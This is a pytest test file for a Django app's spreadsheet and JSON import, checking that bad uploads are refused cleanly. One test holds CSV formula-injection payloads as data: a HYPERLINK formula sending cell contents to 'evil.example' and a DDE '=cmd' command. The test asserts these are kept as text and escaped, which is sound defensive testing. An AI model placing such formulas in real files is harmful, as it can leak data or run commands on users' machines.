"""Bad files: a clear message, nothing saved, never a 500."""

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from imports.models import ImportRun
from interviews.models import Application

pytestmark = pytest.mark.django_db

PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 200

CASES = [
    ("picture.csv", PNG, "not a spreadsheet"),
    ("sheet.xlsx", b"Company,Role\nAcme,Engineer\n", "not one"),
    ("old.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 100, "old Excel file"),
    ("broken.zip", b"PK\x03\x04 this is not really a zip", "damaged"),
    ("empty.csv", b"", "empty"),
    ("notes.txt", b"just some words\nabout my day\n", "does not look like a list"),
    ("export.json", b'{"profile": {"email": "x"}, "interviews.interview": [', "not valid JSON"),
    ("export.json", b'["a", "list"]', "not an Afterview export"),
    ("million.csv", b"Company,Role\n" + b"A,B\n" * 1_000_000, "more than 50,000 rows"),
]


@pytest.mark.slow
@pytest.mark.parametrize(
    ("name", "data", "says"), CASES, ids=[c[0] + str(i) for i, c in enumerate(CASES)]
)
def test_a_bad_file_is_refused_with_a_clear_message(alice_client, alice, name, data, says):
    response = alice_client.post(
        reverse("imports:start"), {"file": SimpleUploadedFile(name, data)}
    )

    assert response.status_code == 400
    assert says in response.content.decode()
    assert not ImportRun.objects.filter(owner=alice).exists()


def test_a_50_mb_file_is_refused_before_it_is_read(alice_client, alice):
    data = b"Company,Role\n" + b"x" * (50 * 1024 * 1024)
    response = alice_client.post(
        reverse("imports:start"), {"file": SimpleUploadedFile("big.csv", data)}
    )

    assert response.status_code in (400, 413)
    assert "larger than 20 MB" in response.content.decode()
    assert not ImportRun.objects.exists()


def test_formulas_are_never_run_and_dates_out_of_range_are_flagged(alice_client, alice):
    data = (
        b"Company,Role,Job URL,Date applied,Status\n"
        b'"=HYPERLINK(""https://evil.example/?x=""&A2,""Acme Corp"")",'
        b"Engineer,,2024-04-01,Applied\n"
        b"=cmd|' /C calc'!A0,Analyst,,2024-04-02,Rejected\n"
        b"Initech,Developer,,2300-01-01,Applied\n"
        b"Globex,Developer,,1899-12-01,Applied\n"
    )
    alice_client.post(reverse("imports:start"), {"file": SimpleUploadedFile("f.csv", data)})
    run = ImportRun.objects.get(owner=alice)
    rows = {row.number: row for row in run.rows.all()}

    assert rows[2].values["company"] == "Acme Corp"  # the label, the formula never run
    assert rows[3].values["company"] == "=cmd|' /C calc'!A0"  # kept as text, flagged
    assert any("formula" in p for p in rows[3].problems)
    assert rows[4].action == rows[5].action == "invalid"
    assert "out of range" in rows[4].problems[0] and "out of range" in rows[5].problems[0]
    page = alice_client.get(run.get_absolute_url()).content.decode()
    assert "&#x27; /C calc&#x27;" in page or "' /C calc'" not in page  # escaped on the page
    assert Application.objects.count() == 0


def test_mixed_encodings_and_a_byte_order_mark_read_without_a_500(alice_client, alice):
    data = (
        "\ufeffCompany,Role\n".encode()
        + "Zürich Insurance,Engineer\n".encode()
        + ("Société Générale,Analyst\n".encode("cp1252"))
    )
    response = alice_client.post(
        reverse("imports:start"), {"file": SimpleUploadedFile("m.csv", data)}
    )

    assert response.status_code == 302
    run = ImportRun.objects.get(owner=alice)
    assert run.rows.filter(action="create").count() == 2
    assert run.headers[0] == "Company"
